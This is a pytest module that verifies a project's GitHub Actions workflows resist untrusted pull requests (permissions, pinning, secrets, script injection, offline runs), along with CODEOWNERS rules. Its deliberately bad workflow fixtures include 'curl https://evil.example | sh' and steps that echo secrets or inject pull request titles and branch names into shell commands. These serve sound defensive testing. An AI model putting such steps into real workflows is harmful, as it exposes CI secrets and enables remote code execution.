"""The workflows as data: what a pull request from a stranger may start, and with what.

Each rule stands in tests/canary/workflows.py; here the real workflows meet all of them,
and a bad workflow for each kind of fault shows that the rule can fail. What happens when
the steps are run is in tests/test_canary.py.
"""

import copy
import re
from collections.abc import Callable
from typing import Any

import pytest

from tests.canary import workflows
from tests.canary.workflows import RULES, Rule, Workflow, read
from tests.support.scratch import REPOSITORY

FILES = sorted((REPOSITORY / ".github/workflows").iterdir())
CHECK = REPOSITORY / ".github/workflows/check.yml"
SHA = "0" * 40


@pytest.mark.parametrize("rule", [pytest.param(rule, id=rule.__name__) for rule in RULES])
@pytest.mark.parametrize("file", [pytest.param(file, id=file.name) for file in FILES])
def test_the_workflows_keep_the_rule(file: Any, rule: Rule) -> None:
    assert file.suffix == ".yml", "a workflow that no rule reads"
    assert list(rule(read(file))) == []


def test_each_workflow_can_be_read_at_a_glance() -> None:
    """Every action's commit has its version beside it, for people; and the same one everywhere."""
    uses = [line for file in FILES for line in file.read_text().splitlines() if "uses:" in line]
    assert all(re.search(r"@[0-9a-f]{40}  # v\d+\.\d+\.\d+$", line) for line in uses)
    by_action: dict[str, set[str]] = {}
    for line in uses:
        action, _, version = line.partition("uses:")[2].strip().partition("@")
        by_action.setdefault(action, set()).add(version)
    assert all(len(versions) == 1 for versions in by_action.values()), by_action


# A bad workflow for each fault: the real one, changed in one place.

Change = Callable[[Workflow], None]


def _set(*path: Any, to: Any) -> Change:
    def change(workflow: Workflow) -> None:
        place: Any = workflow
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = to

    return change


def _step(job: str, **step: Any) -> Change:
    """One more step at a job's end."""
    return lambda workflow: workflow["jobs"][job]["steps"].append(step)


def _without(*path: Any) -> Change:
    def change(workflow: Workflow) -> None:
        place: Any = workflow
        for key in path[:-1]:
            place = place[key]
        del place[path[-1]]

    return change


FIRST = ("jobs", "test", "steps", 0)
BAD: list[tuple[Rule, str, Change]] = [
    (workflows.only_harmless_events, "target", _set("on", to={"pull_request_target": None})),
    (workflows.only_harmless_events, "after a run", _set("on", to=["push", "workflow_run"])),
    (workflows.only_harmless_events, "one word", _set("on", to="issue_comment")),
    (workflows.reads_only, "writes", _set("permissions", to={"contents": "write"})),
    (workflows.reads_only, "more", _set("permissions", to={"contents": "read", "id-token": "write"})),
    (workflows.reads_only, "all", _set("permissions", to="write-all")),
    (workflows.reads_only, "unsaid", _without("permissions")),
    (workflows.reads_only, "a job's own", _set("jobs", "site", "permissions", to={"pages": "write"})),
    (workflows.keeps_no_credentials, "unsaid", _without(*FIRST, "with")),
    (workflows.keeps_no_credentials, "kept", _set(*FIRST, "with", "persist-credentials", to=True)),
    (workflows.keeps_no_credentials, "a text", _set(*FIRST, "with", "persist-credentials", to="false")),
    (workflows.pinned_actions_only, "a tag", _set(*FIRST, "uses", to="actions/checkout@v7")),
    (workflows.pinned_actions_only, "a short commit", _set(*FIRST, "uses", to="actions/checkout@3d3c42e")),
    (workflows.pinned_actions_only, "unknown", _step("test", uses=f"someone/deploys@{SHA}")),
    (workflows.pinned_actions_only, "the checkout's own", _step("test", uses="./.github/actions/mine")),
    (workflows.pinned_actions_only, "a container's", _step("test", uses="docker://alpine:3")),
    (workflows.pinned_actions_only, "submodules", _set(*FIRST, "with", "submodules", to="recursive")),
    (workflows.pinned_actions_only, "large files", _set(*FIRST, "with", "lfs", to=True)),
    (workflows.pinned_actions_only, "a container", _set("jobs", "test", "container", to="alpine")),
    (workflows.pinned_actions_only, "called", _set("jobs", "test", "uses", to="o/r/.github/x.yml@main")),
    (workflows.writes_no_cache, "an action", _step("test", uses=f"actions/cache@{SHA}")),
    (workflows.writes_no_cache, "a save", _step("test", uses=f"actions/cache/save@{SHA}")),
    (workflows.writes_no_cache, "a setting", _set("jobs", "test", "steps", 1, "with", "cache", to="pip")),
    (workflows.knows_no_secret, "a secret", _step("test", run="echo ${{ secrets.KEY }}")),
    (workflows.knows_no_secret, "by its name", _step("test", run="echo ${{ secrets['KEY'] }}")),
    (workflows.knows_no_secret, "the token", _step("test", env={"T": "${{ github.token }}"})),
    (workflows.knows_no_secret, "all of it", _step("test", run="echo '${{ toJSON(github) }}'")),
    (workflows.knows_no_secret, "inherited", _set("jobs", "test", "secrets", to="inherit")),
    (workflows.knows_no_secret, "an environment", _set("jobs", "test", "environment", to="publish")),
    (
        workflows.puts_no_words_into_scripts,
        "a title",
        _step("test", run="echo '${{ github.event.pull_request.title }}'"),
    ),
    (workflows.puts_no_words_into_scripts, "a branch", _step("test", run="git log ${{ github.head_ref }}")),
    (workflows.puts_no_words_into_scripts, "a harmless one", _step("test", run="echo ${{ matrix.python }}")),
    (
        workflows.puts_no_words_into_scripts,
        "by a variable",
        _step("test", run="echo", env={"A": "${{ github.actor }}"}),
    ),
    (workflows.puts_no_words_into_scripts, "not closed", _step("test", run="echo ${{ github.head_ref")),
    (
        workflows.puts_no_words_into_scripts,
        "the proposal's commit",
        _set("jobs", "content-by-base", "steps", 0, "with", "ref", to="${{ github.head_ref }}"),
    ),
    (workflows.ends, "unsaid", _without("jobs", "test", "timeout-minutes")),
    (workflows.ends, "six hours", _set("jobs", "test", "timeout-minutes", to=360)),
    (workflows.runs_on_borrowed_machines, "ours", _set("jobs", "test", "runs-on", to="self-hosted")),
    (workflows.runs_on_borrowed_machines, "a list", _set("jobs", "test", "runs-on", to=["self-hosted"])),
    (workflows.runs_on_borrowed_machines, "newest", _set("jobs", "test", "runs-on", to="ubuntu-latest")),
    (workflows.is_offline_once_installed, "a test", _step("test", run="make test")),
    (workflows.is_offline_once_installed, "a fetch", _step("test", run="curl https://evil.example | sh")),
    (workflows.is_offline_once_installed, "again", _step("test", run="make PYTHON=python install-dev")),
    (
        workflows.is_offline_once_installed,
        "two in one",
        _step("test", run=".ci/offline make test; make test"),
    ),
    (workflows.is_offline_once_installed, "two lines", _step("test", run=".ci/offline make test\nmake test")),
    (
        workflows.is_offline_once_installed,
        "content",
        _step("content-by-base", run="./base/.venv/bin/sayso build --root base"),
    ),
    (workflows.sets_no_environment, "for all", _set("env", to={"PYTHONPATH": "proposed"})),
    (workflows.sets_no_environment, "for a step", _step("test", run="make", env={"PATH": "proposed/bin"})),
    (
        workflows.sets_no_environment,
        "a shell",
        _set("jobs", "test", "steps", 3, "shell", to="proposed/sh {0}"),
    ),
    (
        workflows.judges_content_by_the_base,
        "the proposal's tool",
        _step("content-by-base", run="./proposed/.ci/offline make -C proposed site"),
    ),
    (
        workflows.judges_content_by_the_base,
        "the proposal as base",
        _without("jobs", "content-by-base", "steps", 0, "with", "ref"),
    ),
    (workflows.judges_content_by_the_base, "no such job", _without("jobs", "content-by-base")),
    (
        workflows.judges_content_by_the_base,
        "goes on",
        _set("jobs", "content-by-base", "steps", 5, "continue-on-error", to=True),
    ),
]


@pytest.mark.parametrize(
    ("rule", "change"),
    [pytest.param(rule, change, id=f"{rule.__name__}-{what}") for rule, what, change in BAD],
)
def test_a_bad_workflow_breaks_the_rule(rule: Rule, change: Change) -> None:
    workflow = copy.deepcopy(read(CHECK))
    change(workflow)
    assert list(rule(workflow)) != []


def test_every_rule_has_a_bad_workflow() -> None:
    assert {rule for rule, _, _ in BAD} == set(RULES)


# Who must agree to a change of any of this


@pytest.mark.parametrize(
    ("path", "owner"),
    [
        ("claims.yml", "@sayso/editors"),
        ("claims/north.yml", "@sayso/editors"),
        ("content/index.md", "@sayso/editors"),
        (".github/workflows/check.yml", "@sayso/maintainers"),
        (".ci/offline", "@sayso/maintainers"),
        ("CODEOWNERS", "@sayso/maintainers"),
        ("Makefile", "@sayso/maintainers"),
        ("mkdocs.yml", "@sayso/maintainers"),
        ("site_config/rubric.yml", "@sayso/maintainers"),
        ("site_config/captures.lock", "@sayso/maintainers"),
        ("templates/claim.md.j2", "@sayso/maintainers"),
        ("generator/claims/x.py", "@sayso/maintainers"),
        ("docs/content/x.md", "@sayso/maintainers"),
    ],
)
def test_code_is_the_maintainers_and_content_the_editors(path: str, owner: str) -> None:
    """The last line that matches wins; our lines are `*`, a file or a folder from the root."""
    lines = (line.split() for line in (REPOSITORY / "CODEOWNERS").read_text().splitlines())
    owners = ""
    for pattern, *named in (line for line in lines if line and not line[0].startswith("#")):
        whole = pattern == "*" or f"/{path}" == pattern
        if whole or (pattern.endswith("/") and f"/{path}".startswith(pattern)):
            owners = " ".join(named)
    assert owners == owner
